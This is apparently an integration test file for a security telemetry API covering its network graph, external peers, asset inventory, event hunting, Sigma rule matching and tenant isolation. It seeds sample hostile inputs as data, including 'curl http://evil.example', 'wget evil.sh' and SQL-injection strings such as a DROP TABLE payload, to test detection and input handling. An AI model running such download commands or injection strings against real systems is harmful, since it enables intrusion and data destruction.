// The telemetry read API against a real PostgreSQL and server: the network graph (aggregation per edge, node
// kinds, agent hosts merged by their addresses, truncation, host filter), external peers with their country,
// the asset inventory (agents and OT devices, open alerts, filters, keyset pages), hunting (each operator,
// the field whitelist, values that stay data, keyset pages), permissions and tenant isolation.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertEvent } from './support/alerts-fixtures.js';
import {
  startApiHarness,
  type ApiHarness,
  type SeededTenant,
  type SeededUser,
} from './support/api-harness.js';

interface GraphNode {
  id: string;
  label: string;
  kind: string;
  hostName: string | null;
  agentId: string | null;
  ips: string[];
  bytes: number;
  connections: number;
  openAlerts: number;
}
interface GraphEdge {
  source: string;
  target: string;
  bytes: number;
  count: number;
  protocols: string[];
  ports: number[];
}
interface Graph {
  from: string;
  to: string;
  truncated: boolean;
  nodes: GraphNode[];
  edges: GraphEdge[];
}
interface Peer {
  ip: string;
  country: string | null;
  countryNumeric: string | null;
  countryName: string | null;
  bytes: number;
  count: number;
  hosts: string[];
  firstSeen: string;
  lastSeen: string;
}
interface Asset {
  id: string;
  kind: string;
  name: string;
  agentId: string | null;
  os: string | null;
  agentVersion: string | null;
  ips: string[];
  lastSeen: string | null;
  status: string;
  openAlerts: number;
  protocols: string[];
}
interface HuntRow {
  table: string;
  agentId: string;
  seq: number;
  time: string;
  hostName: string | null;
  fields: Record<string, unknown>;
}
interface HuntPage {
  items: HuntRow[];
  nextCursor: string | null;
  fields: string[];
}
interface Problem {
  status: number;
  detail?: string;
  errors?: Array<{ path: string; message: string }>;
}

let h: ApiHarness;
let a: SeededTenant;
let b: SeededTenant;
let analystA: SeededUser;
let tokenA: string;
let viewerToken: string;
let tokenB: string;

const minute = 60_000;
const hour = 60 * minute;
const base = Date.now();
const at = (msAgo: number) => new Date(base - msAgo).toISOString();
const FROM = at(6 * hour);
const TO = at(0);
const range = `from=${encodeURIComponent(FROM)}&to=${encodeURIComponent(TO)}`;
const SQLISH = `x'; DROP TABLE telemetry.events; -- "quoted" \\ %_`;

let seq = 1000;
async function net(
  tenantId: string,
  e: {
    agent: string;
    host: string;
    src: string;
    dst: string;
    port: number | null;
    bytesIn: number | null;
    bytesOut: number | null;
    time: string;
    kind?: string;
    transport?: string | null;
    app?: string | null;
  },
): Promise<void> {
  seq += 1;
  await h.admin.query(
    `INSERT INTO telemetry.network_events (tenant_id, agent_id, seq, time, observed_time, sensor, host_name, kind,
       transport, source_ip, source_port, destination_ip, destination_port, bytes_in, bytes_out,
       application_protocol, data)
     VALUES ($1, $2, $3, $4, $4, 'network', $5, $6, $7, $8, 40000, $9, $10, $11, $12, $13, '{}')`,
    [
      tenantId,
      e.agent,
      seq,
      e.time,
      e.host,
      e.kind ?? 'connection',
      e.transport === undefined ? 'tcp' : e.transport,
      e.src,
      e.dst,
      e.port,
      e.bytesIn,
      e.bytesOut,
      e.app ?? null,
    ],
  );
}

async function ot(tenantId: string, dst: string, protocol: string, time: string): Promise<void> {
  seq += 1;
  await h.admin.query(
    `INSERT INTO telemetry.ot_transactions (tenant_id, agent_id, seq, time, observed_time, sensor, host_name,
       protocol, operation, function_code, source_ip, destination_ip, destination_port, data)
     VALUES ($1, 'agent-db', $2, $3, $3, 'ot', 'db-01', $4, 'read', 3, '10.0.0.6', $5, 502, '{}')`,
    [tenantId, seq, time, protocol, dst],
  );
}

async function agent(
  tenantId: string,
  groupId: string,
  row: { id: string; host: string; ips: string[]; online?: boolean; revoked?: boolean },
): Promise<void> {
  await h.admin.query(
    `INSERT INTO inosec.agents (id, tenant_id, group_id, host_name, os, version, ip_addresses, cert_serial,
       cert_sha256, cert_not_after, last_seen_at, revoked_at)
     VALUES ($1, $2, $3, $4, 'Ubuntu 24.04', '1.2.3', $5, '01', decode(repeat('ab', 32), 'hex'),
       now() + interval '1 year', CASE WHEN $6 THEN now() ELSE NULL END, CASE WHEN $7 THEN now() ELSE NULL END)`,
    [row.id, tenantId, groupId, row.host, row.ips, row.online ?? false, row.revoked ?? false],
  );
}

async function alert(tenantId: string, host: string, status: string): Promise<void> {
  await h.admin.query(
    `INSERT INTO telemetry.alerts (tenant_id, rule_id, rule_name, ruleset, severity, title, host_name, dedupe_key,
       first_seen, last_seen, status)
     VALUES ($1, 'r', 'R', 'sigma', 'high', 'T', $2, gen_random_uuid()::text, now(), now(), $3)`,
    [tenantId, host, status],
  );
}

async function group(tenantId: string): Promise<string> {
  const { rows } = await h.admin.query<{ id: string }>(
    `INSERT INTO inosec.agent_groups (tenant_id, name) VALUES ($1, 'telemetry-test') RETURNING id::text`,
    [tenantId],
  );
  return rows[0]!.id;
}

beforeAll(async () => {
  h = await startApiHarness();
  a = await h.seedTenant('telemetry-a');
  b = await h.seedTenant('telemetry-b');
  analystA = await h.seedUser(a, { roles: ['analyst'] });
  tokenA = await h.tokenFor(analystA);
  viewerToken = await h.tokenFor(await h.seedUser(a, { roles: ['viewer'] }));
  tokenB = await h.tokenFor(await h.seedUser(b, { roles: ['admin'] }));

  const groupA = await group(a.id);
  await agent(a.id, groupA, {
    id: 'agent-web',
    host: 'web-01',
    ips: ['10.0.0.5/24', '127.0.0.1'],
    online: true,
  });
  await agent(a.id, groupA, { id: 'agent-db', host: 'db-01', ips: ['10.0.0.6', '127.0.0.1'] });
  await agent(a.id, groupA, { id: 'agent-old', host: 'old-01', ips: ['10.0.0.7'], revoked: true });

  const web = { agent: 'agent-web', host: 'web-01' };
  const db = { agent: 'agent-db', host: 'db-01' };
  await net(a.id, {
    ...web,
    src: '10.0.0.5',
    dst: '8.8.8.8',
    port: 443,
    bytesIn: 100,
    bytesOut: 50,
    time: at(3 * hour),
    app: 'https',
  });
  await net(a.id, {
    ...web,
    src: '10.0.0.5',
    dst: '8.8.8.8',
    port: 443,
    bytesIn: 1000,
    bytesOut: 0,
    time: at(2 * hour),
  });
  await net(a.id, {
    ...web,
    src: '10.0.0.5',
    dst: '8.8.8.8',
    port: 53,
    bytesIn: 10,
    bytesOut: 10,
    time: at(hour),
    transport: 'udp',
    app: 'dns',
  });
  await net(a.id, {
    ...web,
    src: '10.0.0.5',
    dst: '10.0.0.6',
    port: 5432,
    bytesIn: 300,
    bytesOut: 200,
    time: at(hour),
  });
  await net(a.id, {
    ...db,
    src: '10.0.0.6',
    dst: '192.168.1.20',
    port: 502,
    bytesIn: 30,
    bytesOut: 20,
    time: at(hour),
  });
  await net(a.id, {
    ...db,
    src: '10.0.0.6',
    dst: '1.1.1.1',
    port: 443,
    bytesIn: 70,
    bytesOut: null,
    time: at(hour),
    kind: 'flow',
  });
  // Loopback on web-01: both ends are that host (its own address), no edge.
  await net(a.id, {
    ...web,
    src: '127.0.0.1',
    dst: '127.0.0.1',
    port: 8080,
    bytesIn: 5,
    bytesOut: 5,
    time: at(hour),
  });
  // Not a connection or flow; and a connection before the range.
  await net(a.id, {
    ...web,
    src: '10.0.0.5',
    dst: '9.9.9.9',
    port: 53,
    bytesIn: 9999,
    bytesOut: 0,
    time: at(hour),
    kind: 'dns',
  });
  await net(a.id, {
    ...web,
    src: '10.0.0.5',
    dst: '9.9.9.9',
    port: 53,
    bytesIn: 9999,
    bytesOut: 0,
    time: at(7 * hour),
  });

  await ot(a.id, '192.168.1.20', 'modbus', at(2 * hour));
  await ot(a.id, '192.168.1.20', 'enip', at(hour));
  await ot(a.id, '192.168.1.30', 'dnp3', at(hour));
  await ot(a.id, '10.0.0.5', 'modbus', at(hour)); // an agent's address: a host, not an OT device

  await alert(a.id, 'web-01', 'new');
  await alert(a.id, 'WEB-01', 'acknowledged');
  await alert(a.id, 'web-01', 'closed');
  await alert(a.id, '192.168.1.20', 'new');

  for (const [i, cmd] of ['bash -c id', 'curl http://evil', SQLISH, 'bash -c ID', 'ls'].entries()) {
    await insertEvent(h, a.id, {
      agentId: 'agent-web',
      seq: i + 1,
      time: at(hour + (i < 3 ? i : 2) * minute), // seq 3, 4 and 5 share a time: ordered by seq
      host: i === 4 ? 'db-01' : 'web-01',
      commandLine: cmd,
    });
  }

  // Process starts as the collector stores them (data: the ProcessEvent's JSON), for the Sigma hunt.
  for (const [i, cmd] of ['curl http://evil.example', 'ls -la', 'wget evil.sh'].entries()) {
    await h.admin.query(
      `INSERT INTO telemetry.events (tenant_id, agent_id, seq, time, observed_time, sensor, host_name, kind,
         action, process_name, process_command_line, data)
       VALUES ($1, 'agent-web', $2, $3, $3, 'procfs', 'web-01', 'process', 'start', 'sh', $4, $5)`,
      [
        a.id,
        201 + i,
        at(10 * hour - i * minute),
        cmd,
        JSON.stringify({
          action: 'ACTION_START',
          process: { pid: 100 + i, name: 'sh', executable: '/bin/sh', commandLine: cmd },
        }),
      ],
    );
  }

  // Tenant B: its own agent and telemetry, seen only by B.
  const groupB = await group(b.id);
  await agent(b.id, groupB, { id: 'agent-b', host: 'b-host', ips: ['10.9.9.9'] });
  await net(b.id, {
    agent: 'agent-b',
    host: 'b-host',
    src: '10.9.9.9',
    dst: '4.4.4.4',
    port: 443,
    bytesIn: 1,
    bytesOut: 1,
    time: at(hour),
  });
  await insertEvent(h, b.id, {
    agentId: 'agent-b',
    seq: 1,
    time: at(hour),
    host: 'b-host',
    commandLine: 'b secret',
  });
}, 120_000);

afterAll(async () => {
  await h?.close();
});

describe('GET /api/network/graph', () => {
  it('aggregates connections and flows of the range per edge, heaviest first, hosts merged by address', async () => {
    const res = await h.request<Graph>('GET', `/api/network/graph?${range}`, { token: tokenA });
    expect(res.status).toBe(200);
    expect(res.body.from).toBe(FROM);
    expect(res.body.to).toBe(TO);
    expect(res.body.truncated).toBe(false);
    expect(res.body.edges).toEqual([
      {
        source: 'host:agent-web',
        target: 'ip:8.8.8.8',
        bytes: 1170,
        count: 3,
        protocols: ['dns', 'https', 'tcp', 'udp'],
        ports: [443, 53],
      },
      {
        source: 'host:agent-web',
        target: 'host:agent-db',
        bytes: 500,
        count: 1,
        protocols: ['tcp'],
        ports: [5432],
      },
      {
        source: 'host:agent-db',
        target: 'ip:1.1.1.1',
        bytes: 70,
        count: 1,
        protocols: ['tcp'],
        ports: [443],
      },
      {
        source: 'host:agent-db',
        target: 'ip:192.168.1.20',
        bytes: 50,
        count: 1,
        protocols: ['tcp'],
        ports: [502],
      },
    ]);
    const nodes = Object.fromEntries(res.body.nodes.map((n) => [n.id, n]));
    expect(Object.keys(nodes).sort()).toEqual([
      'host:agent-db',
      'host:agent-web',
      'ip:1.1.1.1',
      'ip:192.168.1.20',
      'ip:8.8.8.8',
    ]);
    expect(nodes['host:agent-web']).toEqual({
      id: 'host:agent-web',
      label: 'web-01',
      kind: 'host',
      hostName: 'web-01',
      agentId: 'agent-web',
      ips: ['10.0.0.5', '127.0.0.1'],
      bytes: 1670,
      connections: 4,
      openAlerts: 2,
    });
    expect(nodes['host:agent-db']).toMatchObject({
      kind: 'host',
      hostName: 'db-01',
      bytes: 620,
      connections: 3,
      openAlerts: 0,
    });
    expect(nodes['ip:8.8.8.8']).toEqual({
      id: 'ip:8.8.8.8',
      label: '8.8.8.8',
      kind: 'external',
      hostName: null,
      agentId: null,
      ips: ['8.8.8.8'],
      bytes: 1170,
      connections: 3,
      openAlerts: 0,
    });
    expect(nodes['ip:1.1.1.1']!.kind).toBe('external');
    expect(nodes['ip:192.168.1.20']!.kind).toBe('internal');
  });

  it('keeps the heaviest `limit` edges and says it truncated', async () => {
    const res = await h.request<Graph>('GET', `/api/network/graph?${range}&limit=2`, { token: tokenA });
    expect(res.status).toBe(200);
    expect(res.body.truncated).toBe(true);
    expect(res.body.edges.map((e) => e.bytes)).toEqual([1170, 500]);
    expect(res.body.nodes.map((n) => n.id).sort()).toEqual(['host:agent-db', 'host:agent-web', 'ip:8.8.8.8']);
    const exact = await h.request<Graph>('GET', `/api/network/graph?${range}&limit=4`, { token: tokenA });
    expect(exact.body.truncated).toBe(false);
    expect(exact.body.edges).toHaveLength(4);
  });

  it('keeps the edges touching a host (case-insensitive)', async () => {
    const res = await h.request<Graph>('GET', `/api/network/graph?${range}&host=DB-01`, { token: tokenA });
    expect(res.status).toBe(200);
    expect(res.body.edges.map((e) => `${e.source}>${e.target}`)).toEqual([
      'host:agent-web>host:agent-db',
      'host:agent-db>ip:1.1.1.1',
      'host:agent-db>ip:192.168.1.20',
    ]);
    const none = await h.request<Graph>('GET', `/api/network/graph?${range}&host=nohost`, { token: tokenA });
    expect(none.body).toMatchObject({ truncated: false, nodes: [], edges: [] });
  });

  it('defaults to the last 24 hours and refuses ranges over 31 days or reversed', async () => {
    const res = await h.request<Graph>('GET', '/api/network/graph', { token: tokenA });
    expect(res.status).toBe(200);
    expect(Date.parse(res.body.to) - Date.parse(res.body.from)).toBe(24 * hour);
    // The connection 7 hours ago is in the default range (not in the 6-hour one of the other tests).
    expect(res.body.edges).toHaveLength(5);
    expect(res.body.edges[0]).toMatchObject({
      source: 'host:agent-web',
      target: 'ip:9.9.9.9',
      bytes: 9999,
      count: 1,
    });
    const long = await h.request<Problem>(
      'GET',
      `/api/network/graph?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:01Z`,
      { token: tokenA },
    );
    expect(long.status).toBe(422);
    expect(long.body.errors?.[0]?.path).toBe('query.from');
    const reversed = await h.request<Problem>(
      'GET',
      `/api/network/graph?from=${encodeURIComponent(TO)}&to=${encodeURIComponent(FROM)}`,
      {
        token: tokenA,
      },
    );
    expect(reversed.status).toBe(422);
    const tooMany = await h.request<Problem>('GET', `/api/network/graph?limit=50001`, { token: tokenA });
    expect(tooMany.status).toBe(400);
  });
});

describe('GET /api/network/peers', () => {
  it("never lists the tenant's own hosts, even at a public address", async () => {
    const tenant = await h.seedTenant('telemetry-public');
    const token = await h.tokenFor(await h.seedUser(tenant, { roles: ['analyst'] }));
    const groupId = await group(tenant.id);
    await agent(tenant.id, groupId, { id: 'agent-edge', host: 'edge-01', ips: ['198.51.100.7/24'] });
    await agent(tenant.id, groupId, { id: 'agent-lan', host: 'lan-01', ips: ['10.1.0.5'] });
    const hop = { port: 443, bytesIn: 10, bytesOut: 20, time: at(hour) };
    await net(tenant.id, {
      agent: 'agent-lan',
      host: 'lan-01',
      src: '10.1.0.5',
      dst: '198.51.100.7',
      ...hop,
    });
    await net(tenant.id, {
      agent: 'agent-edge',
      host: 'edge-01',
      src: '198.51.100.7',
      dst: '9.9.9.9',
      ...hop,
    });
    const res = await h.request<{ peers: Peer[] }>('GET', `/api/network/peers?${range}`, { token });
    expect(res.status).toBe(200);
    expect(res.body.peers.map((p) => p.ip)).toEqual(['9.9.9.9']);
  });

  it('lists external addresses only, heaviest first, with their country', async () => {
    const res = await h.request<{ from: string; to: string; peers: Peer[] }>(
      'GET',
      `/api/network/peers?${range}`,
      {
        token: tokenA,
      },
    );
    expect(res.status).toBe(200);
    expect(res.body.from).toBe(FROM);
    expect(res.body.peers.map((p) => p.ip)).toEqual(['8.8.8.8', '1.1.1.1']);
    expect(res.body.peers[0]).toEqual({
      ip: '8.8.8.8',
      country: 'US',
      countryNumeric: '840',
      countryName: 'United States of America',
      bytes: 1170,
      count: 3,
      hosts: ['web-01'],
      firstSeen: at(3 * hour),
      lastSeen: at(hour),
    });
    expect(res.body.peers[1]).toMatchObject({ bytes: 70, count: 1, hosts: ['db-01'] });
    const one = await h.request<{ peers: Peer[] }>('GET', `/api/network/peers?${range}&limit=1`, {
      token: tokenA,
    });
    expect(one.body.peers.map((p) => p.ip)).toEqual(['8.8.8.8']);
  });
});

describe('GET /api/assets', () => {
  it('lists agents and OT devices by name, with status, open alerts and protocols', async () => {
    const res = await h.request<{ items: Asset[]; nextCursor: string | null }>('GET', '/api/assets', {
      token: tokenA,
    });
    expect(res.status).toBe(200);
    expect(res.body.nextCursor).toBeNull();
    expect(res.body.items.map((i) => i.name)).toEqual([
      '192.168.1.20',
      '192.168.1.30',
      'db-01',
      'old-01',
      'web-01',
    ]);
    const byName = Object.fromEntries(res.body.items.map((i) => [i.name, i]));
    expect(byName['web-01']).toMatchObject({
      id: 'host:agent-web',
      kind: 'host',
      agentId: 'agent-web',
      os: 'Ubuntu 24.04',
      agentVersion: '1.2.3',
      ips: ['10.0.0.5', '127.0.0.1'],
      status: 'online',
      openAlerts: 2,
      protocols: [],
    });
    expect(byName['web-01']!.lastSeen).not.toBeNull();
    expect(byName['db-01']).toMatchObject({ status: 'offline', lastSeen: null, openAlerts: 0 });
    expect(byName['old-01']!.status).toBe('revoked');
    expect(byName['192.168.1.20']).toEqual({
      id: 'ip:192.168.1.20',
      kind: 'ot_device',
      name: '192.168.1.20',
      agentId: null,
      os: null,
      agentVersion: null,
      ips: ['192.168.1.20'],
      lastSeen: at(hour),
      status: 'seen',
      openAlerts: 1,
      protocols: ['enip', 'modbus'],
    });
  });

  it('filters on name or address and on kind', async () => {
    const names = async (query: string) =>
      (await h.request<{ items: Asset[] }>('GET', `/api/assets?${query}`, { token: tokenA })).body.items.map(
        (i) => i.name,
      );
    expect(await names('q=WEB')).toEqual(['web-01']);
    expect(await names('q=10.0.0.6')).toEqual(['db-01']);
    expect(await names('q=192.168.1.3')).toEqual(['192.168.1.30']);
    expect(await names('kind=ot_device')).toEqual(['192.168.1.20', '192.168.1.30']);
    expect(await names('kind=host&q=01')).toEqual(['db-01', 'old-01', 'web-01']);
    expect(await names(`q=${encodeURIComponent("%' OR 1=1 --")}`)).toEqual([]);
  });

  it('pages by keyset', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res: { body: { items: Asset[]; nextCursor: string | null } } = await h.request(
        'GET',
        `/api/assets?limit=2${cursor ? `&cursor=${cursor}` : ''}`,
        {
          token: tokenA,
        },
      );
      seen.push(...res.body.items.map((i) => i.name));
      cursor = res.body.nextCursor;
      pages += 1;
    } while (cursor !== null && pages < 10);
    expect(pages).toBe(3);
    expect(seen).toEqual(['192.168.1.20', '192.168.1.30', 'db-01', 'old-01', 'web-01']);
    const bad = await h.request<Problem>('GET', '/api/assets?cursor=abc', { token: tokenA });
    expect(bad.status).toBe(400);
  });
});

describe('GET /api/hunt/events', () => {
  const hunt = (query: string, token = tokenA) =>
    h.request<HuntPage & Problem>('GET', `/api/hunt/events?${range}&${query}`, { token });
  const where = (conditions: unknown) => `where=${encodeURIComponent(JSON.stringify(conditions))}`;
  const commands = (page: HuntPage) => page.items.map((i) => i.fields['processCommandLine']);

  it('lists the events of the range newest first with their whitelisted fields', async () => {
    const res = await hunt('');
    expect(res.status).toBe(200);
    expect(res.body.items.map((i) => i.seq)).toEqual([1, 2, 5, 4, 3]);
    expect(res.body.fields).toContain('processCommandLine');
    expect(res.body.nextCursor).toBeNull();
    expect(res.body.items[0]).toEqual({
      table: 'events',
      agentId: 'agent-web',
      seq: 1,
      time: at(hour),
      hostName: 'web-01',
      fields: expect.objectContaining({
        kind: 'process',
        action: 'start',
        processName: 'bash',
        processCommandLine: 'bash -c id',
      }) as unknown,
    });
  });

  it('applies each operator; values stay data', async () => {
    const q = (field: string, op: string, value?: unknown) => hunt(where([{ field, op, value }]));
    expect(commands((await q('processCommandLine', 'eq', SQLISH)).body)).toEqual([SQLISH]);
    expect(commands((await q('processCommandLine', 'contains', 'ID')).body)).toEqual([
      'bash -c id',
      'bash -c ID',
    ]);
    expect(commands((await q('processCommandLine', 'contains', "'; DROP")).body)).toEqual([SQLISH]);
    expect(commands((await q('processCommandLine', 'startswith', 'CURL')).body)).toEqual([
      'curl http://evil',
    ]);
    expect(commands((await q('processCommandLine', 'neq', 'ls')).body)).toEqual([
      'bash -c id',
      'curl http://evil',
      'bash -c ID',
      SQLISH,
    ]);
    expect(commands((await q('userName', 'exists')).body)).toEqual([]);
    expect(commands((await q('processName', 'exists')).body)).toHaveLength(5);
    expect(commands((await hunt(`host=DB-01`)).body)).toEqual(['ls']);
    const both = await hunt(
      where([
        { field: 'processCommandLine', op: 'startswith', value: 'bash' },
        { field: 'processCommandLine', op: 'neq', value: 'bash -c ID' },
      ]),
    );
    expect(commands(both.body)).toEqual(['bash -c id']);
    const count = await h.admin.query<{ n: number }>('SELECT count(*)::int AS n FROM telemetry.events');
    expect(count.rows[0]!.n).toBeGreaterThan(5);
  });

  it('compares numbers and addresses on network events', async () => {
    const q = (conditions: unknown) => hunt(`table=network_events&${where(conditions)}`);
    const ports = (page: HuntPage) =>
      page.items.map((i) => i.fields['destinationPort']).sort((x, y) => Number(x) - Number(y));
    expect(ports((await q([{ field: 'destinationPort', op: 'gt', value: 500 }])).body)).toEqual([
      502, 5432, 8080,
    ]);
    expect(ports((await q([{ field: 'destinationPort', op: 'lt', value: '100' }])).body)).toEqual([53, 53]);
    expect(ports((await q([{ field: 'destinationPort', op: 'eq', value: 443 }])).body)).toEqual([
      443, 443, 443,
    ]);
    const dst = await q([{ field: 'destinationIp', op: 'eq', value: '8.8.8.8' }]);
    expect(dst.body.items).toHaveLength(3);
    expect(dst.body.items[0]).toMatchObject({
      table: 'network_events',
      agentId: 'agent-web',
      hostName: 'web-01',
    });
    expect(dst.body.items[0]!.fields['destinationIp']).toBe('8.8.8.8');
    expect(
      (await q([{ field: 'destinationIp', op: 'startswith', value: '192.168.' }])).body.items,
    ).toHaveLength(1);
    expect((await q([{ field: 'applicationProtocol', op: 'exists' }])).body.items).toHaveLength(2);
    const ot = await hunt(
      `table=ot_transactions&${where([{ field: 'protocol', op: 'eq', value: 'modbus' }])}`,
    );
    expect(ot.body.items).toHaveLength(2);
    expect(ot.body.fields).toEqual([
      'protocol',
      'operation',
      'functionCode',
      'functionName',
      'unitId',
      'sourceIp',
      'sourcePort',
      'destinationIp',
      'destinationPort',
      'result',
      'exceptionCode',
    ]);
  });

  it('refuses an unknown field or an operator its type does not take, naming it (422)', async () => {
    const unknown = await hunt(
      where([
        { field: 'processName', op: 'exists' },
        { field: 'password', op: 'eq', value: 'x' },
      ]),
    );
    expect(unknown.status).toBe(422);
    expect(unknown.body.errors).toEqual([
      { path: 'query.where.1.field', message: 'unknown field "password" of table events' },
    ]);
    const proto = await hunt(where([{ field: '__proto__', op: 'eq', value: 'x' }]));
    expect(proto.status).toBe(422);
    const otherTable = await hunt(
      `table=ot_transactions&${where([{ field: 'processName', op: 'eq', value: 'x' }])}`,
    );
    expect(otherTable.status).toBe(422);
    const badOp = await hunt(where([{ field: 'processCommandLine', op: 'gt', value: 'a' }]));
    expect(badOp.status).toBe(422);
    expect(badOp.body.errors?.[0]?.path).toBe('query.where.0.op');
    expect(badOp.body.errors?.[0]?.message).toContain('processCommandLine');
    const notNumber = await hunt(
      `table=network_events&${where([{ field: 'destinationPort', op: 'gt', value: '1 OR 1=1' }])}`,
    );
    expect(notNumber.status).toBe(422);
    expect(notNumber.body.errors?.[0]?.path).toBe('query.where.0.value');
    const notIp = await hunt(
      `table=network_events&${where([{ field: 'destinationIp', op: 'eq', value: "1.1.1.1'--" }])}`,
    );
    expect(notIp.status).toBe(422);
    const noValue = await hunt(where([{ field: 'processName', op: 'eq' }]));
    expect(noValue.status).toBe(422);
    expect((await hunt('where=not-json')).status).toBe(400);
    expect((await hunt(where([{ field: 'processName', op: 'like', value: 'x' }]))).status).toBe(400);
    const eleven = Array.from({ length: 11 }, () => ({ field: 'processName', op: 'exists' }));
    expect((await hunt(where(eleven))).status).toBe(400);
  });

  it('pages by keyset, ties on time ordered by agent and seq', async () => {
    const seen: number[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res: { status: number; body: HuntPage } = await h.request(
        'GET',
        `/api/hunt/events?${range}&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
        { token: tokenA },
      );
      expect(res.status).toBe(200);
      seen.push(...res.body.items.map((i) => i.seq));
      cursor = res.body.nextCursor;
      pages += 1;
    } while (cursor !== null && pages < 10);
    expect(pages).toBe(3);
    expect(seen).toEqual([1, 2, 5, 4, 3]);
    const bad = await hunt('cursor=WyJ4Il0');
    expect(bad.status).toBe(400);
  });
});

describe('POST /api/hunt/sigma', () => {
  const RULE = [
    'title: Evil Download',
    'id: 5f0c7a52-4c1e-4b8e-9a57-3f1d2a6b9c01',
    'status: experimental',
    'logsource:',
    '  product: linux',
    '  category: process_creation',
    'detection:',
    '  selection:',
    "    CommandLine|contains: 'evil'",
    '  condition: selection',
    'level: high',
  ].join('\n');
  const window = { from: at(11 * hour), to: at(9 * hour) };
  const sigma = (body: Record<string, unknown>, token = tokenA) =>
    h.request<
      {
        matches: HuntRow[];
        scanned: number;
        truncated: boolean;
        rule: { title: string; id: string | null };
      } & Problem
    >('POST', '/api/hunt/sigma', { token, body: { ...window, ...body } });

  it('runs one detection rule over the stored events of the range, newest first', async () => {
    const res = await sigma({ rule: RULE });
    expect(res.status).toBe(200);
    expect(res.body.rule).toEqual({ title: 'Evil Download', id: '5f0c7a52-4c1e-4b8e-9a57-3f1d2a6b9c01' });
    expect(res.body.scanned).toBe(3);
    expect(res.body.truncated).toBe(false);
    expect(res.body.matches.map((m) => m.seq)).toEqual([203, 201]);
    expect(res.body.matches[0]).toMatchObject({
      table: 'events',
      agentId: 'agent-web',
      hostName: 'web-01',
      time: at(10 * hour - 2 * minute),
      fields: { processCommandLine: 'wget evil.sh', action: 'start' },
    });
    const one = await sigma({ rule: RULE, limit: 1 });
    expect(one.body.matches.map((m) => m.seq)).toEqual([203]);
    expect(one.body.truncated).toBe(true);
    const otherHost = await sigma({ rule: RULE, host: 'db-01' });
    expect(otherHost.body).toMatchObject({ matches: [], scanned: 0 });
  });

  it('refuses a rule that does not load, a correlation rule and an unsupported log source (422)', async () => {
    const broken = await sigma({ rule: 'title: [unclosed' });
    expect(broken.status).toBe(422);
    expect(broken.body.errors?.[0]?.path).toBe('body.rule');
    const correlation = await sigma({
      rule: [
        'title: Many Downloads',
        'correlation:',
        '  type: event_count',
        '  rules:',
        '    - 5f0c7a52-4c1e-4b8e-9a57-3f1d2a6b9c01',
        '  group-by:',
        '    - User',
        '  timespan: 5m',
        '  condition:',
        '    gte: 10',
      ].join('\n'),
    });
    expect(correlation.status).toBe(422);
    const windows = await sigma({ rule: RULE.replace('product: linux', 'product: windows') });
    expect(windows.status).toBe(422);
    expect(windows.body.errors?.[0]?.path).toBe('body.rule');
    const big = await sigma({ rule: 'x'.repeat(65537) });
    expect(big.status).toBe(400);
  });

  it("finds nothing of another tenant's events", async () => {
    const res = await sigma({ rule: RULE }, tokenB);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ matches: [], scanned: 0, truncated: false });
    expect((await sigma({ rule: RULE }, viewerToken)).status).toBe(403);
  });
});

describe('permissions and tenant isolation', () => {
  it('needs telemetry:read', async () => {
    for (const route of ['/api/network/graph', '/api/network/peers', '/api/assets', '/api/hunt/events']) {
      expect((await h.request('GET', route, { token: viewerToken })).status).toBe(403);
      expect((await h.request('GET', route)).status).toBe(401);
    }
  });

  it("shows another tenant nothing of this tenant's telemetry on every route", async () => {
    const graph = await h.request<Graph>('GET', `/api/network/graph?${range}`, { token: tokenB });
    expect(graph.body.edges).toEqual([
      { source: 'host:agent-b', target: 'ip:4.4.4.4', bytes: 2, count: 1, protocols: ['tcp'], ports: [443] },
    ]);
    expect(graph.body.nodes.map((n) => n.id).sort()).toEqual(['host:agent-b', 'ip:4.4.4.4']);
    const peers = await h.request<{ peers: Peer[] }>('GET', `/api/network/peers?${range}`, { token: tokenB });
    expect(peers.body.peers.map((p) => p.ip)).toEqual(['4.4.4.4']);
    const assets = await h.request<{ items: Asset[] }>('GET', '/api/assets', { token: tokenB });
    expect(assets.body.items.map((i) => i.id)).toEqual(['host:agent-b']);
    for (const table of ['events', 'network_events', 'ot_transactions']) {
      const res = await h.request<HuntPage>('GET', `/api/hunt/events?${range}&table=${table}`, {
        token: tokenB,
      });
      expect(res.status).toBe(200);
      expect(res.body.items.every((i) => i.agentId === 'agent-b')).toBe(true);
      expect(res.body.items).toHaveLength(table === 'ot_transactions' ? 0 : 1);
    }
    // A's graph does not hold B's agent either.
    const graphA = await h.request<Graph>('GET', `/api/network/graph?${range}`, { token: tokenA });
    expect(graphA.body.nodes.map((n) => n.id)).not.toContain('host:agent-b');
  });
});
